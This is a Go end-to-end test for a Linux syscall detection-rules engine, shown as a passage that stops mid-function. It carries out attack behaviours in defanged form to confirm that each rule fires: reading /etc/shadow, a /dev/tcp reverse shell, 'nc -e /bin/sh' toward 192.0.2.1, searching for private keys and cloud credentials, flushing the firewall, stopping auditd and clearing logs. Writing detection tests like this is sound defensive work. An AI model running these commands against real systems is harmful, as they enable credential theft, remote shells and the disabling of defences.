//go:build linux

// Package rulese2e runs the syscall receiver and the security_rules processor with the default
// rules in-process, performs attack behaviours for real and checks that each fires its rule
// once with the right process, and that an ordinary developer workload fires nothing at
// Warning or above.
package rulese2e

import (
	"bufio"
	"fmt"
	"io"
	"net"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"syscall"
	"testing"
	"time"

	"github.com/otelsec/otelsec/internal/ruleengine"
	"github.com/otelsec/otelsec/internal/schema"
	"github.com/otelsec/otelsec/rules"
)

// behaviour is one attack technique performed for real. do returns the pid the violation must
// carry and attributes it must have.
type behaviour struct {
	name string
	rule string
	// notRules must not fire for the same process: a more specific rule owns the event.
	notRules []string
	do       func(t *testing.T, h *harness) (pid int, want map[string]any)
	// nearMiss, when set, runs first and returns the pid of a process that must not fire rule.
	nearMiss func(t *testing.T, h *harness) int
}

func TestRulesEndToEnd(t *testing.T) {
	h := newHarness(t)
	self, err := os.Executable()
	if err != nil {
		t.Fatal(err)
	}
	selfName := filepath.Base(self)
	tok := h.token

	for _, b := range behaviours(selfName, tok) {
		t.Run("attack/"+b.name, func(t *testing.T) { h.perform(t, b) })
	}
	t.Run("every rule exercised", func(t *testing.T) {
		covered := map[string]bool{}
		for _, b := range behaviours(selfName, tok) {
			covered[b.rule] = true
		}
		e, _, err := ruleengine.Compile(rules.Default(), ruleengine.Options{})
		if err != nil {
			t.Fatal(err)
		}
		for _, r := range e.Rules() {
			if reason, ok := notExercised[r.Name]; ok {
				t.Logf("not performed for real: %q: %s", r.Name, reason)
				continue
			}
			if !covered[r.Name] {
				t.Errorf("default rule %q has no behaviour here and no reason in notExercised", r.Name)
			}
		}
	})
	t.Run("benign", func(t *testing.T) {
		h.t = t
		benignWorkload(t, h)
	})
}

// inContainer returns a command that moves itself into a fresh cgroup named like a docker
// container's and then runs script there, and the container id the receiver should report.
func (h *harness) inContainer(t *testing.T, script string) (*exec.Cmd, string) {
	t.Helper()
	root := "/sys/fs/cgroup/unified"
	if _, err := os.Stat(filepath.Join(root, "cgroup.procs")); err != nil {
		root = "/sys/fs/cgroup"
	}
	id := strings.Repeat(h.token, 6)[:64-len(h.token)] + h.token // 64 hex digits
	parent := filepath.Join(root, "otelsec-e2e-docker")
	dir := filepath.Join(parent, id)
	if err := os.MkdirAll(dir, 0o755); err != nil {
		t.Skipf("cannot create a cgroup v2 group: %v", err)
	}
	t.Cleanup(func() {
		// The group can go once its processes have exited.
		for i := 0; i < 50 && os.Remove(dir) != nil; i++ {
			time.Sleep(20 * time.Millisecond)
		}
		os.Remove(parent)
	})
	return exec.Command("/bin/sh", "-c", "echo $$ > "+filepath.Join(dir, "cgroup.procs")+" && "+script), id
}

// notExercised are the default rules this test does not perform, and why.
var notExercised = map[string]string{
	"Recursive deletion of the root or a system directory": "destructive by nature; rules/testdata/fixtures.yaml covers it",
	"Kernel events lost by the sensor":                     "needs a flood that starves the sensor; test/e2e's flood test sees it arrive at the backend",
	"Sensor restarted after an unclean stop":               "needs the sensor killed; test/e2e's SIGKILL test sees it arrive at the backend",
}

func touch(path string) *exec.Cmd { return exec.Command("touch", path) }

// touchKeepingTimes opens an existing file for writing without changing its contents (touch
// never truncates) and restores its times afterwards. It skips when the file does not exist.
func touchKeepingTimes(t *testing.T, path string) *exec.Cmd {
	t.Helper()
	st, err := os.Stat(path)
	if err != nil {
		t.Skipf("no %s here", path)
	}
	sys := st.Sys().(*syscall.Stat_t)
	atime := time.Unix(sys.Atim.Sec, sys.Atim.Nsec)
	t.Cleanup(func() {
		if err := os.Chtimes(path, atime, st.ModTime()); err != nil {
			t.Errorf("restoring the times of %s: %v", path, err)
		}
	})
	return exec.Command("touch", path)
}

func behaviours(selfName, tok string) []behaviour {
	parentIsTest := map[string]any{schema.AttrProcessParentExecutableName: selfName}
	with := func(m map[string]any) map[string]any {
		out := map[string]any{}
		for k, v := range parentIsTest {
			out[k] = v
		}
		for k, v := range m {
			out[k] = v
		}
		return out
	}
	return append([]behaviour{
		{name: "read shadow", rule: "Sensitive file read by an untrusted program",
			do: func(t *testing.T, h *harness) (int, map[string]any) {
				cmd := exec.Command("cat", "/etc/shadow")
				cmd.Stdout = io.Discard
				return h.run(cmd), with(map[string]any{
					schema.AttrProcessExecutableName: "cat", schema.AttrFilePath: "/etc/shadow",
					schema.AttrProcessCommandLine: "cat /etc/shadow", schema.AttrProcessUserID: 0})
			}},
		{name: "write below etc", rule: "Write below /etc",
			do: func(t *testing.T, h *harness) (int, map[string]any) {
				p := "/etc/otelsec-e2e-" + tok
				t.Cleanup(func() { os.Remove(p) })
				return h.run(touch(p)), with(map[string]any{
					schema.AttrProcessExecutableName: "touch", schema.AttrFilePath: p,
					schema.AttrFileFlags: listHas("O_WRONLY")})
			}},
		{name: "cron.d file", rule: "Cron job created or modified", notRules: []string{"Write below /etc"},
			do: func(t *testing.T, h *harness) (int, map[string]any) {
				if _, err := os.Stat("/etc/cron.d"); err != nil {
					t.Skip("no /etc/cron.d here")
				}
				p := "/etc/cron.d/otelsec-e2e-" + tok
				t.Cleanup(func() { os.Remove(p) })
				return h.run(touch(p)), with(map[string]any{schema.AttrFilePath: p})
			}},
		{name: "systemd unit", rule: "Systemd unit or init script modified", notRules: []string{"Write below /etc"},
			do: func(t *testing.T, h *harness) (int, map[string]any) {
				p := "/etc/systemd/system/otelsec-e2e-" + tok + ".service"
				if _, err := os.Stat(filepath.Dir(p)); err != nil {
					t.Skip("no /etc/systemd/system here")
				}
				t.Cleanup(func() { os.Remove(p) })
				return h.run(touch(p)), with(map[string]any{schema.AttrFilePath: p})
			}},
		{name: "write below usr-bin", rule: "Write below a system binary directory",
			do: func(t *testing.T, h *harness) (int, map[string]any) {
				p := "/usr/bin/otelsec-e2e-" + tok
				t.Cleanup(func() { os.Remove(p) })
				return h.run(touch(p)), with(map[string]any{schema.AttrFilePath: p})
			}},
		{name: "write below root home", rule: "Write below root's home directory",
			do: func(t *testing.T, h *harness) (int, map[string]any) {
				p := "/root/otelsec-e2e-" + tok
				t.Cleanup(func() { os.Remove(p) })
				return h.run(touch(p)), with(map[string]any{schema.AttrFilePath: p})
			}},
		{name: "shell startup file", rule: "Shell startup file modified",
			do: func(t *testing.T, h *harness) (int, map[string]any) {
				home := "/home/otelsec-e2e-" + tok
				if err := os.MkdirAll(home, 0o755); err != nil {
					t.Fatal(err)
				}
				t.Cleanup(func() { os.RemoveAll(home) })
				return h.run(touch(home + "/.profile")), with(map[string]any{schema.AttrFilePath: home + "/.profile"})
			}},
		{name: "authorized_keys", rule: "SSH authorized_keys modified",
			do: func(t *testing.T, h *harness) (int, map[string]any) {
				dir := "/home/otelsec-e2e-" + tok + "-keys/.ssh"
				if err := os.MkdirAll(dir, 0o700); err != nil {
					t.Fatal(err)
				}
				t.Cleanup(func() { os.RemoveAll(filepath.Dir(dir)) })
				cmd := exec.Command("sh", "-c", `echo "ssh-ed25519 AAAA e2e" >> "$0"`, dir+"/authorized_keys")
				return h.run(cmd), map[string]any{schema.AttrFilePath: dir + "/authorized_keys",
					schema.AttrFileFlags: listHas("O_APPEND")}
			}},
		{name: "ld.so.preload created", rule: "Dynamic linker preload configured",
			notRules: []string{"Write below /etc"},
			do: func(t *testing.T, h *harness) (int, map[string]any) {
				const p = "/etc/ld.so.preload"
				if _, err := os.Lstat(p); err == nil {
					t.Skip("this host has an /etc/ld.so.preload; not touching it")
				}
				// An empty preload file changes nothing for the processes that read it meanwhile.
				t.Cleanup(func() { os.Remove(p) })
				return h.run(touch(p)), with(map[string]any{schema.AttrFilePath: p})
			}},
		{name: "passwd opened for writing", rule: "Account database modified directly",
			notRules: []string{"Write below /etc"},
			do: func(t *testing.T, h *harness) (int, map[string]any) {
				return h.run(touchKeepingTimes(t, "/etc/passwd")), with(map[string]any{
					schema.AttrFilePath: "/etc/passwd", schema.AttrFileFlags: listHas("O_WRONLY")})
			}},
		{name: "sudoers opened for writing", rule: "Sudoers modified",
			notRules: []string{"Write below /etc"},
			do: func(t *testing.T, h *harness) (int, map[string]any) {
				return h.run(touchKeepingTimes(t, "/etc/sudoers")), with(map[string]any{schema.AttrFilePath: "/etc/sudoers"})
			}},
		{name: "core utility opened for writing", rule: "System authentication or core utility binary tampered",
			notRules: []string{"Write below a system binary directory"},
			do: func(t *testing.T, h *harness) (int, map[string]any) {
				return h.run(touchKeepingTimes(t, "/usr/bin/whoami")), with(map[string]any{schema.AttrFilePath: "/usr/bin/whoami"})
			}},
		{name: "write below boot", rule: "Write below /boot",
			do: func(t *testing.T, h *harness) (int, map[string]any) {
				if st, err := os.Stat("/boot"); err != nil || !st.IsDir() {
					t.Skip("no /boot here")
				}
				p := "/boot/otelsec-e2e-" + tok
				t.Cleanup(func() { os.Remove(p) })
				return h.run(touch(p)), with(map[string]any{schema.AttrFilePath: p})
			}},
		{name: "account tool run", rule: "Local account created or changed",
			nearMiss: func(t *testing.T, h *harness) int {
				return h.runQuiet(exec.Command("passwd", "-S", "root"))
			},
			do: func(t *testing.T, h *harness) (int, map[string]any) {
				if _, err := exec.LookPath("groupdel"); err != nil {
					t.Skip("no groupdel")
				}
				// A group that does not exist: groupdel refuses and changes nothing; the rule
				// reports the tool being run.
				return h.runQuiet(exec.Command("groupdel", "otelsec-e2e-nosuch-"+tok)), with(map[string]any{
					schema.AttrProcessExecutableName: "groupdel"})
			}},
		{name: "setuid bit on a copy", rule: "Setuid or setgid bit set",
			do: func(t *testing.T, h *harness) (int, map[string]any) {
				p := h.copyExecutable("/usr/bin/true", "suid-true")
				return h.run(exec.Command("chmod", "u+s", p)), with(map[string]any{
					schema.AttrProcessExecutableName: "chmod", schema.AttrFilePath: p,
					schema.AttrFileMode: octal(0o4755)})
			}},
		{name: "mode of shadow", rule: "Sensitive file ownership or mode changed",
			do: func(t *testing.T, h *harness) (int, map[string]any) {
				st, err := os.Stat("/etc/shadow")
				if err != nil {
					t.Skip(err)
				}
				perm := int(st.Mode().Perm()) // unchanged: the same mode again
				return h.run(exec.Command("chmod", fmt.Sprintf("%o", perm), "/etc/shadow")), with(map[string]any{
					schema.AttrFilePath: "/etc/shadow", schema.AttrFileMode: octal(perm)})
			}},
		{name: "symlink to shadow", rule: "Symlink to or over a sensitive file",
			do: func(t *testing.T, h *harness) (int, map[string]any) {
				p := filepath.Join(h.work, "shadow-link")
				os.Remove(p) // from an earlier attempt
				return h.run(exec.Command("ln", "-s", "/etc/shadow", p)), with(map[string]any{
					schema.AttrFilePath: p, schema.AttrFileSymlinkTargetPath: "/etc/shadow"})
			}},
		{name: "hard link to shadow", rule: "Hard link to or over a sensitive file",
			do: func(t *testing.T, h *harness) (int, map[string]any) {
				p := filepath.Join(h.work, "shadow-hard")
				os.Remove(p) // from an earlier attempt
				t.Cleanup(func() { os.Remove(p) })
				return h.run(exec.Command("ln", "/etc/shadow", p)), with(map[string]any{
					schema.AttrFilePath: p, schema.AttrFileLinkTargetPath: "/etc/shadow"})
			}},
		{name: "unshare -n", rule: "Namespace created outside a container runtime",
			do: func(t *testing.T, h *harness) (int, map[string]any) {
				return h.run(exec.Command("unshare", "-n", "true")), with(map[string]any{
					schema.AttrProcessExecutableName: "unshare", schema.AttrNamespaceFlags: listHas("CLONE_NEWNET")})
			}},
		{name: "nsenter into a network namespace", rule: "Namespace entered outside a container runtime",
			do: func(t *testing.T, h *harness) (int, map[string]any) {
				// This test's own namespace: pid 1's may be out of reach in a sandbox.
				ns := fmt.Sprintf("--net=/proc/%d/ns/net", os.Getpid())
				return h.run(exec.Command("nsenter", ns, "true")), with(map[string]any{
					schema.AttrProcessExecutableName: "nsenter", schema.AttrNamespaceFlags: listHas("CLONE_NEWNET")})
			}},
		{name: "setuid(0) from an unprivileged process", rule: "Non-root process attempted to become root",
			do: func(t *testing.T, h *harness) (int, map[string]any) {
				cmd := h.helperCmd(h.helper, "setuid0")
				cmd.SysProcAttr = &syscall.SysProcAttr{Credential: &syscall.Credential{Uid: 65534, Gid: 65534}}
				return h.run(cmd), with(map[string]any{
					schema.AttrProcessExecutablePath: h.helper, schema.AttrProcessUserID: 65534,
					schema.AttrPrivilegeTargetUserID: 0, schema.AttrErrorType: "EPERM"})
			}},
		{name: "setuid-root program regains root", rule: "Non-root process became root",
			do: func(t *testing.T, h *harness) (int, map[string]any) {
				p := h.copyExecutable(h.helper, "suid-helper")
				if err := os.Chmod(p, os.ModeSetuid|0o755); err != nil {
					t.Fatal(err)
				}
				cmd := h.helperCmd(p, "seteuid0")
				cmd.SysProcAttr = &syscall.SysProcAttr{Credential: &syscall.Credential{Uid: 65534, Gid: 65534}}
				return h.run(cmd), with(map[string]any{
					schema.AttrProcessExecutablePath: p, schema.AttrProcessUserID: 0,
					schema.AttrProcessRealUserID: 65534, schema.AttrPrivilegeTargetUserID: 0})
			}},
		{name: "setuid-root program becomes fully root", rule: "Non-root process became root",
			do: func(t *testing.T, h *harness) (int, map[string]any) {
				p := h.copyExecutable(h.helper, "suid-full")
				if err := os.Chmod(p, os.ModeSetuid|0o755); err != nil {
					t.Fatal(err)
				}
				cmd := h.helperCmd(p, "setuid0-full")
				cmd.SysProcAttr = &syscall.SysProcAttr{Credential: &syscall.Credential{Uid: 65534, Gid: 65534}}
				return h.run(cmd), with(map[string]any{
					schema.AttrProcessExecutablePath: p, schema.AttrSyscallName: "setuid",
					schema.AttrProcessUserID: 0, schema.AttrProcessRealUserID: 0,
					schema.AttrPrivilegeTargetUserID: 0, schema.AttrPrivilegePreviousUserID: 0,
					schema.AttrPrivilegePreviousRealUserID: 65534})
			}},
		{name: "capset raises CAP_SYS_ADMIN", rule: "Dangerous capability raised",
			do: func(t *testing.T, h *harness) (int, map[string]any) {
				return h.run(h.helperCmd(h.helper, "capset")), with(map[string]any{
					schema.AttrProcessExecutablePath: h.helper,
					schema.AttrCapabilitiesAdded:     listHas("CAP_SYS_ADMIN")})
			}},
		{name: "ptrace attach", rule: "Ptrace attach to another process",
			do: func(t *testing.T, h *harness) (int, map[string]any) {
				pid, out := h.runHelper(h.helperCmd(h.helper, "ptrace-attach"))
				var target int
				if _, err := fmt.Sscan(out, &target); err != nil {
					t.Fatalf("helper printed %q", out)
				}
				return pid, with(map[string]any{schema.AttrProcessExecutablePath: h.helper,
					schema.AttrPtraceRequest: "PTRACE_ATTACH", schema.AttrPtraceTargetPID: target})
			}},
		{name: "PTRACE_TRACEME", rule: "Process asked to be traced",
			do: func(t *testing.T, h *harness) (int, map[string]any) {
				return h.run(h.helperCmd(h.helper, "traceme")), with(map[string]any{
					schema.AttrProcessExecutablePath: h.helper, schema.AttrPtraceRequest: "PTRACE_TRACEME"})
			}},
		{name: "exec from tmp", rule: "Program executed from a temporary directory",
			do: func(t *testing.T, h *harness) (int, map[string]any) {
				dir, err := os.MkdirTemp("/tmp", "otelsec-e2e-")
				if err != nil {
					t.Fatal(err)
				}
				t.Cleanup(func() { os.RemoveAll(dir) })
				p := filepath.Join(dir, "dropper")
				data, err := os.ReadFile("/usr/bin/true")
				if err != nil {
					t.Fatal(err)
				}
				writeFile(t, p, string(data), 0o755)
				return h.run(exec.Command(p)), with(map[string]any{
					schema.AttrProcessExecutablePath: p, schema.AttrProcessExecutableName: "dropper"})
			}},
		{name: "exec from dev-shm", rule: "Program executed from shared memory",
			do: func(t *testing.T, h *harness) (int, map[string]any) {
				dir, err := os.MkdirTemp("/dev/shm", "otelsec-e2e-")
				if err != nil {
					t.Skip(err)
				}
				t.Cleanup(func() { os.RemoveAll(dir) })
				p := filepath.Join(dir, "kworker")
				data, err := os.ReadFile("/usr/bin/true")
				if err != nil {
					t.Fatal(err)
				}
				writeFile(t, p, string(data), 0o755)
				pid := h.run(exec.Command(p))
				if len(h.byPID(pid, "Program executed from shared memory")) == 0 {
					// A noexec /dev/shm refuses the exec: nothing ran, nothing to detect.
					if err := exec.Command(p).Run(); err != nil {
						t.Skipf("cannot execute from /dev/shm here: %v", err)
					}
				}
				return pid, with(map[string]any{schema.AttrProcessExecutablePath: p})
			}},
		{name: "memfd exec", rule: "Fileless execution from memory",
			do: func(t *testing.T, h *harness) (int, map[string]any) {
				return h.run(h.helperCmd(h.helper, "memfd-exec")), with(map[string]any{
					schema.AttrProcessExecutablePath: contains("/memfd:otelsec-e2e"),
					schema.AttrProcessCommandLine:    "otelsec-e2e-memfd"})
			}},
		{name: "exec from a detached mount", rule: "Program executed from an unreachable mount",
			do: func(t *testing.T, h *harness) (int, map[string]any) {
				bin := h.copyExecutable("/usr/bin/true", "otelsec-detached-true")
				return h.run(h.helperCmd(h.helper, "exec-detached", bin)), with(map[string]any{
					schema.AttrProcessExecutablePath: contains("otelsec-detached-true"),
					schema.AttrProcessCommandLine:    "otelsec-e2e-detached"})
			}},
		{name: "grep for private keys", rule: "Search for private keys",
			do: func(t *testing.T, h *harness) (int, map[string]any) {
				return h.run(exec.Command("grep", "-rl", "BEGIN RSA PRIVATE KEY", h.work)), with(map[string]any{
					schema.AttrProcessExecutableName: "grep",
					schema.AttrProcessCommandLine:    contains("BEGIN RSA PRIVATE KEY")})
			}},
		{name: "grep for cloud credentials", rule: "Search for cloud credentials",
			do: func(t *testing.T, h *harness) (int, map[string]any) {
				return h.run(exec.Command("grep", "-r", "aws_secret_access_key", h.work)), with(map[string]any{
					schema.AttrProcessExecutableName: "grep"})
			}},
		{name: "read an ssh private key", rule: "SSH private key read by an untrusted program",
			do: func(t *testing.T, h *harness) (int, map[string]any) {
				p := filepath.Join(h.work, ".ssh", "id_rsa")
				writeFile(t, p, "-----BEGIN OPENSSH PRIVATE KEY-----\nnot a key\n", 0o600)
				cmd := exec.Command("cat", p)
				cmd.Stdout = io.Discard
				return h.run(cmd), with(map[string]any{schema.AttrFilePath: p})
			}},
		{name: "directory traversal read", rule: "Directory traversal read of a sensitive file",
			nearMiss: func(t *testing.T, h *harness) int {
				return h.run(h.helperCmd(h.helper, "read", "/etc/hostname"))
			},
			do: func(t *testing.T, h *harness) (int, map[string]any) {
				// Climbing from the work directory: ".." above / stays at /.
				given := h.work + strings.Repeat("/..", strings.Count(h.work, "/")+2) + "/etc/hostname"
				return h.run(h.helperCmd(h.helper, "read", given)), with(map[string]any{schema.AttrProcessExecutablePath: h.helper,
					schema.AttrFilePath: "/etc/hostname", schema.AttrFilePathAsGiven: given})
			}},
		{name: "read aws credentials", rule: "Cloud credentials read by an untrusted program",
			do: func(t *testing.T, h *harness) (int, map[string]any) {
				p := filepath.Join(h.work, ".aws", "credentials")
				writeFile(t, p, "[default]\naws_access_key_id = AKIAEXAMPLE\n", 0o600)
				cmd := exec.Command("cat", p)
				cmd.Stdout = io.Discard
				return h.run(cmd), with(map[string]any{schema.AttrFilePath: p})
			}},
		{name: "reverse shell over dev-tcp", rule: "Reverse shell redirects standard streams to a socket",
			do: func(t *testing.T, h *harness) (int, map[string]any) {
				l, err := net.Listen("tcp", "127.0.0.1:0")
				if err != nil {
					t.Fatal(err)
				}
				defer l.Close()
				got := make(chan string, 1)
				go func() {
					c, err := l.Accept()
					if err != nil {
						got <- err.Error()
						return
					}
					defer c.Close()
					_ = c.SetDeadline(time.Now().Add(10 * time.Second))
					line, _ := bufio.NewReader(c).ReadString('\n')
					got <- line
				}()
				port := l.Addr().(*net.TCPAddr).Port
				script := fmt.Sprintf("exec 3<>/dev/tcp/127.0.0.1/%d; exec 1>&3; echo otelsec", port)
				pid := h.run(exec.Command("bash", "-c", script))
				if line := <-got; strings.TrimSpace(line) != "otelsec" {
					t.Fatalf("the listener got %q from the shell", line)
				}
				return pid, with(map[string]any{schema.AttrProcessExecutableName: "bash",
					schema.AttrFdType: "socket", schema.AttrFdNew: 1, schema.AttrFdOld: 3})
			}},
		{name: "shell connects to a remote address", rule: "Unexpected outbound connection",
			do: func(t *testing.T, h *harness) (int, map[string]any) {
				ip := nonLoopbackIPv4(t)
				l, err := net.Listen("tcp", ip+":0")
				if err != nil {
					t.Fatal(err)
				}
				defer l.Close()
				go func() {
					if c, err := l.Accept(); err == nil {
						c.Close()
					}
				}()
				port := l.Addr().(*net.TCPAddr).Port
				pid := h.run(exec.Command("bash", "-c", fmt.Sprintf("exec 3<>/dev/tcp/%s/%d", ip, port)))
				return pid, with(map[string]any{schema.AttrProcessExecutableName: "bash",
					schema.AttrNetworkPeerAddress: ip, schema.AttrNetworkPeerPort: port,
					schema.AttrNetworkTransport: "tcp"})
			}},
		{name: "listening as nc", rule: "Unexpected listening socket",
			do: func(t *testing.T, h *harness) (int, map[string]any) {
				nc := h.copyExecutable(h.helper, "nc")
				return h.run(h.helperCmd(nc, "listen")), with(map[string]any{
					schema.AttrProcessExecutableName: "nc", schema.AttrNetworkLocalAddress: "127.0.0.1"})
			}},
		{name: "python listening", rule: "Interpreter listening on a network port",
			do: func(t *testing.T, h *harness) (int, map[string]any) {
				if _, err := os.Stat("/usr/bin/python3"); err != nil {
					t.Skip("no /usr/bin/python3")
				}
				cmd := exec.Command("/usr/bin/python3", "-c",
					`import socket; s = socket.socket(); s.bind(("127.0.0.1", 0)); s.listen(1); s.close()`)
				return h.run(cmd), with(map[string]any{schema.AttrNetworkLocalAddress: "127.0.0.1"})
			}},
		{name: "netcat with -e", rule: "Netcat runs a program for the network",
			do: func(t *testing.T, h *harness) (int, map[string]any) {
				// The rule reads the exec's arguments; the copy named nc only exits.
				nc := h.copyExecutable(h.helper, "nc")
				return h.run(h.helperCmd(nc, "idle", "-e", "/bin/sh", "192.0.2.1", "4444")), with(map[string]any{
					schema.AttrProcessExecutableName: "nc"})
			}},
		{name: "kernel module load attempt", rule: "Kernel module loaded by an unexpected process",
			do: func(t *testing.T, h *harness) (int, map[string]any) {
				if _, err := os.Stat("/proc/modules"); err != nil {
					t.Skip("this kernel has no loadable module support (no /proc/modules): finit_module does not exist")
				}
				p := filepath.Join(h.work, "rootkit.ko")
				writeFile(t, p, "not an ELF module", 0o644)
				return h.run(h.helperCmd(h.helper, "module-load", p)), with(map[string]any{
					schema.AttrProcessExecutablePath: h.helper, schema.AttrFilePath: p})
			}},
		{name: "bpf program load", rule: "BPF program loaded by an unexpected process",
			do: func(t *testing.T, h *harness) (int, map[string]any) {
				return h.run(h.helperCmd(h.helper, "bpf-load")), with(map[string]any{
					schema.AttrProcessExecutablePath: h.helper, schema.AttrBPFCommand: "BPF_PROG_LOAD",
					schema.AttrBPFProgramType: "BPF_PROG_TYPE_SOCKET_FILTER"})
			}},
		{name: "release_agent written", rule: "Cgroup release_agent written",
			do: func(t *testing.T, h *harness) (int, map[string]any) {
				// Any file of that name: mounting a cgroup v1 hierarchy is not needed to see
				// the write the escape makes.
				p := filepath.Join(h.work, "release_agent")
				return h.run(touch(p)), with(map[string]any{schema.AttrFilePath: p})
			}},
		{name: "system account with a terminal", rule: "Interactive shell by a system account",
			do: func(t *testing.T, h *harness) (int, map[string]any) {
				if _, err := exec.LookPath("script"); err != nil {
					t.Skip("no script(1) to give the shell a terminal")
				}
				// script runs the shell on a new pseudo-terminal, as uid 1 (daemon); the shell
				// prints its pid so the test knows which process to look for.
				cmd := exec.Command("script", "-qec", "/bin/sh -c 'echo $$'", "/dev/null")
				cmd.SysProcAttr = &syscall.SysProcAttr{Credential: &syscall.Credential{Uid: 1, Gid: 1}}
				cmd.Dir = "/"
				cmd.Env = append(os.Environ(), "SHELL=/bin/sh")
				var out strings.Builder
				cmd.Stdout = &out
				h.run(cmd)
				var pid int
				if _, err := fmt.Sscan(strings.TrimSpace(out.String()), &pid); err != nil {
					t.Fatalf("script printed %q", out.String())
				}
				return pid, map[string]any{schema.AttrProcessUserID: 1, schema.AttrProcessInteractive: true}
			}},
		// Container rules: the receiver takes container.id from the cgroup a process execs
		// in, so a cgroup laid out as docker's cgroupfs driver does makes a container.
		{name: "debugfs in a container", rule: "Debugfs run in a container",
			do: func(t *testing.T, h *harness) (int, map[string]any) {
				if _, err := exec.LookPath("debugfs"); err != nil {
					t.Skip("no debugfs")
				}
				cmd, id := h.inContainer(t, "exec debugfs -V")
				return h.runQuiet(cmd), with(map[string]any{schema.AttrContainerID: id,
					schema.AttrProcessExecutableName: "debugfs"})
			}},
		{name: "mount in a container", rule: "Filesystem mounted inside a container",
			do: func(t *testing.T, h *harness) (int, map[string]any) {
				dir := filepath.Join(h.work, "mnt")
				if err := os.MkdirAll(dir, 0o755); err != nil {
					t.Fatal(err)
				}
				t.Cleanup(func() { _ = syscall.Unmount(dir, syscall.MNT_DETACH) })
				cmd, id := h.inContainer(t, "exec mount -t tmpfs otelsec-e2e "+dir)
				return h.run(cmd), map[string]any{schema.AttrContainerID: id, schema.AttrFilePath: dir,
					schema.AttrMountFSType: "tmpfs"}
			}},
		{name: "packet socket in a container", rule: "Packet socket opened in a container",
			nearMiss: func(t *testing.T, h *harness) int {
				return h.run(h.helperCmd(h.helper, "packet-socket")) // on the host
			},
			do: func(t *testing.T, h *harness) (int, map[string]any) {
				cmd, id := h.inContainer(t, "exec "+h.helper)
				cmd.Env = append(os.Environ(), helperEnv+"=packet-socket")
				return h.run(cmd), map[string]any{schema.AttrContainerID: id, schema.AttrProcessExecutablePath: h.helper,
					schema.AttrNetworkSocketFamily: "AF_PACKET"}
			}},
		{name: "interactive shell in a container", rule: "Interactive shell in a container",
			do: func(t *testing.T, h *harness) (int, map[string]any) {
				if _, err := exec.LookPath("script"); err != nil {
					t.Skip("no script(1) to give the shell a terminal")
				}
				cmd, id := h.inContainer(t, `exec script -qec "/bin/sh -c 'echo \$\$'" /dev/null`)
				var out strings.Builder
				cmd.Stdout = &out
				cmd.Env = append(os.Environ(), "SHELL=/bin/sh")
				h.run(cmd)
				var pid int
				if _, err := fmt.Sscan(strings.TrimSpace(out.String()), &pid); err != nil {
					t.Fatalf("script printed %q", out.String())
				}
				return pid, map[string]any{schema.AttrContainerID: id, schema.AttrProcessInteractive: true}
			}},
		{name: "process memory opened for writing", rule: "Process memory written through /proc",
			do: func(t *testing.T, h *harness) (int, map[string]any) {
				return h.run(h.helperCmd(h.helper, "proc-mem-write")), with(map[string]any{
					schema.AttrProcessExecutablePath: h.helper, schema.AttrFilePath: contains("/mem"),
					schema.AttrFileFlags: listHas("O_RDWR")})
			}},
		// The next rules read an exec's name and arguments; running the real tools would flush
		// this machine's firewall or stop its services, so a copy of the helper by that name
		// is executed with those arguments and exits.
		{name: "iptables -F", rule: "Firewall rules flushed or disabled",
			do: func(t *testing.T, h *harness) (int, map[string]any) {
				p := h.copyExecutable(h.helper, "iptables")
				return h.run(h.helperCmd(p, "idle", "-F")), with(map[string]any{
					schema.AttrProcessCommandArgs: listHas("-F")})
			}},
		{name: "systemctl stop auditd", rule: "Security service stopped",
			do: func(t *testing.T, h *harness) (int, map[string]any) {
				p := h.copyExecutable(h.helper, "systemctl")
				return h.run(h.helperCmd(p, "idle", "stop", "auditd")), with(map[string]any{
					schema.AttrProcessCommandArgs: listHas("auditd")})
			}},
		{name: "auditctl -e 0", rule: "Kernel auditing disabled",
			do: func(t *testing.T, h *harness) (int, map[string]any) {
				p := h.copyExecutable(h.helper, "auditctl")
				return h.run(h.helperCmd(p, "idle", "-e", "0")), with(map[string]any{
					schema.AttrProcessExecutableName: "auditctl"})
			}},
		{name: "shell below a server", rule: "Shell spawned by a server",
			notRules: []string{"Shell spawned by an unexpected parent"},
			do: func(t *testing.T, h *harness) (int, map[string]any) {
				nginx := h.copyExecutable(h.helper, "nginx")
				_, out := h.runHelper(h.helperCmd(nginx, "exec-shell"))
				var pid int
				if _, err := fmt.Sscan(out, &pid); err != nil {
					t.Fatalf("helper printed %q", out)
				}
				return pid, map[string]any{schema.AttrProcessParentExecutableName: "nginx",
					schema.AttrProcessAncestorsExecName: listHas("nginx")}
			}},
		{name: "shell below an unexpected program", rule: "Shell spawned by an unexpected parent",
			do: func(t *testing.T, h *harness) (int, map[string]any) {
				gen := h.copyExecutable(h.helper, "report-generator")
				_, out := h.runHelper(h.helperCmd(gen, "exec-shell"))
				var pid int
				if _, err := fmt.Sscan(out, &pid); err != nil {
					t.Fatalf("helper printed %q", out)
				}
				return pid, map[string]any{schema.AttrProcessParentExecutableName: "report-generator"}
			}},
		{name: "ssh client below a server", rule: "SSH client run by a server",
			do: func(t *testing.T, h *harness) (int, map[string]any) {
				ssh, err := exec.LookPath("ssh")
				if err != nil {
					t.Skip("no ssh client")
				}
				nginx := h.copyExecutable(h.helper, "nginx")
				_, out := h.runHelper(h.helperCmd(nginx, "exec", ssh, "-V"))
				var pid int
				if _, err := fmt.Sscan(out, &pid); err != nil {
					t.Fatalf("helper printed %q", out)
				}
				return pid, map[string]any{schema.AttrProcessExecutableName: "ssh",
					schema.AttrProcessParentExecutableName: "nginx"}
			}},
		{name: "ssh client run by a test binary", rule: "SSH client run by an unexpected parent",
			do: func(t *testing.T, h *harness) (int, map[string]any) {
				if _, err := exec.LookPath("ssh"); err != nil {
					t.Skip("no ssh client")
				}
				return h.run(exec.Command("ssh", "-V")), with(map[string]any{schema.AttrProcessExecutableName: "ssh"})
			}},
		{name: "shred", rule: "Data destruction tool run",
			do: func(t *testing.T, h *harness) (int, map[string]any) {
				p := filepath.Join(h.work, "victim")
				writeFile(t, p, "data", 0o644)
				return h.run(exec.Command("shred", "-u", p)), with(map[string]any{schema.AttrProcessExecutableName: "shred"})
			}},
		{name: "log truncated", rule: "System logs cleared",
			do: func(t *testing.T, h *harness) (int, map[string]any) {
				p := "/var/log/otelsec-e2e-" + tok + ".log"
				writeFile(t, p, "line\n", 0o640)
				t.Cleanup(func() { os.Remove(p) })
				return h.run(exec.Command("sh", "-c", `: > "$0"`, p)), with(map[string]any{
					schema.AttrFilePath: p, schema.AttrFileFlags: listHas("O_TRUNC")})
			}},
		{name: "log removed", rule: "System logs cleared",
			do: func(t *testing.T, h *harness) (int, map[string]any) {
